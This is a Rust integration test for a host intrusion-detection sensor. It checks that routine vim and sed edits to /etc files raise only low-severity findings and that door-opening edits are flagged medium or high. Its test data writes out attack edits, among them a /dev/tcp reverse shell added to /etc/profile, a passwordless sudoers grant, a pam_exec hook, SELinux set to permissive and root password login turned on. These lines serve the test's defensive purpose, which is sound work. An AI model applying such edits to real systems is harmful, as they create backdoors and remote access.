//! What administrators do to ordinary configuration with real editors: each told once and no alarm above `low`; and what
//! opens a door by the same editors: as severe as what it opens. In a mount namespace whose `/etc` is its own.

use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::filesystems::in_namespace;
use crate::host::private_places;
use crate::lab::{Lab, path, rule};

/// A line is appended by vim, as by hand: with its swap file, and the former text kept beside it meanwhile.
const VIM: &str =
    "vi() { vim.tiny -u NONE -e -s -c 'set swapfile writebackup' -c \"normal Go$2\" -c wq! $1; }; ";

/// Where, and what is done there; `low` at most, and one finding about that file.
const ORDINARY: &[(&str, &str)] = &[
    ("/etc/profile", "vi /etc/profile '# a remark'"),
    ("/etc/profile", "vi /etc/profile 'umask 027'"),
    ("/etc/ssh/sshd_config", "vi /etc/ssh/sshd_config '# a remark'"),
    ("/etc/ssh/sshd_config", "sed -i 's/^Port 22/Port 2222/' /etc/ssh/sshd_config"),
    ("/etc/ssh/sshd_config", "sed -i.bak 's/^Port 2222/Port 22/' /etc/ssh/sshd_config"),
    ("/etc/ssh/ssh_config", "vi /etc/ssh/ssh_config 'Host example'"),
    ("/etc/hosts.deny", "vi /etc/hosts.deny 'ALL: 192.0.2.7'"),
    ("/etc/hosts.allow", "sed -i '$a sshd: 192.0.2.0/24' /etc/hosts.allow"),
    ("/etc/hosts", "sed -i.bak '$a 192.0.2.5 db' /etc/hosts"),
    ("/etc/hosts", "vim.tiny -u NONE -e -s -c 'set backup backupdir=.' -c '%s/db/cache/' -c wq /etc/hosts"),
    ("/etc/security/limits.conf", "vi /etc/security/limits.conf '* soft nofile 65536'"),
    ("/etc/logrotate.conf", "sed -i 's/^rotate .*/rotate 7/' /etc/logrotate.conf"),
    ("/etc/pam.d/login", "vi /etc/pam.d/login '# a remark'"),
    ("/etc/sudoers", "vi /etc/sudoers '# a remark'"),
    ("/etc/crontab", "sed -i '1i # a remark' /etc/crontab"),
    ("/etc/default/grub", "vi /etc/default/grub 'GRUB_TIMEOUT=1'"),
    ("/etc/nsswitch.conf", "sed -i.orig '1i # a remark' /etc/nsswitch.conf"),
];

/// Where, what is done there, how severe it is, and words of the title.
const OPENING: &[(&str, &str, &str, &str)] = &[
    (
        "/etc/ssh/sshd_config",
        "sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        "high",
        "permits root logins by password",
    ),
    ("/etc/hosts.deny", "sed -i '/192.0.2.7/d' /etc/hosts.deny", "medium", "No longer kept from connecting"),
    (
        "/etc/profile",
        "vi /etc/profile '/opt/x --serve'",
        "medium",
        "starts a program outside the system's own places",
    ),
    (
        "/etc/profile",
        "vi /etc/profile 'bash -i >/dev/tcp/192.0.2.1/4444'",
        "high",
        "opens a shell over the network",
    ),
    (
        "/etc/pam.d/login",
        "sed -i '1i auth optional pam_exec.so /opt/x' /etc/pam.d/login",
        "high",
        "runs a program",
    ),
    ("/etc/selinux/config", "sed -i s/enforcing/permissive/ /etc/selinux/config", "high", "forbids nothing"),
    ("/etc/sudoers", "vi /etc/sudoers 'eve ALL=(ALL) NOPASSWD: ALL'", "high", "eve may run anything"),
    (
        "/root/.ssh/authorized_keys",
        "sed -i '1s/^/no-pty /' /root/.ssh/authorized_keys",
        "medium",
        "may do was changed",
    ),
    (
        "/etc/ssh/sshd_config",
        "vi /etc/ssh/sshd_config 'AuthorizedKeysFile /opt/keys'",
        "high",
        "sshd now takes keys from /opt/keys",
    ),
];

fn shell(script: &str) {
    let out = Command::new("sh").args(["-ec", &format!("{VIM}{script}")]).output().unwrap();
    assert!(out.status.success(), "{script}: {}", String::from_utf8_lossy(&out.stderr));
}

fn told(lab: &Lab) -> Vec<Value> {
    let findings = lab.findings.lock().unwrap();
    findings.iter().filter(|finding| !rule(finding).starts_with("sensor.")).cloned().collect()
}

/// Does it, waits until all is told that will be, and gives the one finding.
fn one(lab: &Lab, place: &str, script: &str) -> Value {
    lab.forget();
    shell(script);
    lab.wait(&format!("{script}: a finding"), |lab| told(lab).iter().any(|finding| path(finding) == place));
    // Before the second scan begins, the counters tell of the first.
    for _ in 0..2 {
        lab.scanner().scan(&[Path::new(place).to_path_buf()], crate::lab::PATIENCE, |_| {}).unwrap();
    }
    lab.wait(&format!("{script}: all of it"), |lab| {
        lab.counter("pending") == 0 && lab.counter("held") == 0 && lab.arrived()
    });
    lab.forget_editors_own();
    let mut told = told(lab);
    assert_eq!(told.len(), 1, "{script}: {told:#?}");
    told.remove(0)
}

#[test]
fn editors_raise_no_alarm_unless_what_they_write_opens_a_door() {
    if !in_namespace("edits::editors_raise_no_alarm_unless_what_they_write_opens_a_door") {
        return;
    }
    let mut lab = Lab::new("fanotify");
    private_places(&lab);
    shell(
        "touch /etc/hosts.deny /etc/hosts.allow /etc/profile /etc/ssh/ssh_config /etc/security/limits.conf
         touch /etc/sudoers /etc/crontab
         echo 'rotate 4' > /etc/logrotate.conf; echo 'GRUB_TIMEOUT=5' > /etc/default/grub
         ssh-keygen -q -t ed25519 -N '' -C eve -f /srv/key && cp /srv/key.pub /root/.ssh/authorized_keys",
    );
    lab.config.trees = vec!["/etc".into(), "/root".into()];
    lab.config.exclude = vec!["/root/.viminfo*".to_owned()];
    lab.start();
    for (place, script) in ORDINARY {
        let finding = one(&lab, place, script);
        let severity = finding["severity"].as_str().unwrap();
        assert!(["info", "low"].contains(&severity), "{script}: {finding:#}");
        assert_eq!(
            (path(&finding), &finding["evidence"]["fact"]),
            (*place, &"file.modified".into()),
            "{script}"
        );
    }
    for (place, script, severity, words) in OPENING {
        let finding = one(&lab, place, script);
        assert_eq!(finding["severity"], *severity, "{script}: {finding:#}");
        assert!(finding["title"].as_str().unwrap().contains(words), "{script}: {finding:#}");
    }
    let keys = one(
        &lab,
        "/root/.ssh/authorized_keys",
        "sed -i 's/^no-pty /no-x11-forwarding /' /root/.ssh/authorized_keys",
    );
    assert_eq!(rule(&keys), "persistence.ssh-key");
    lab.stop();
}
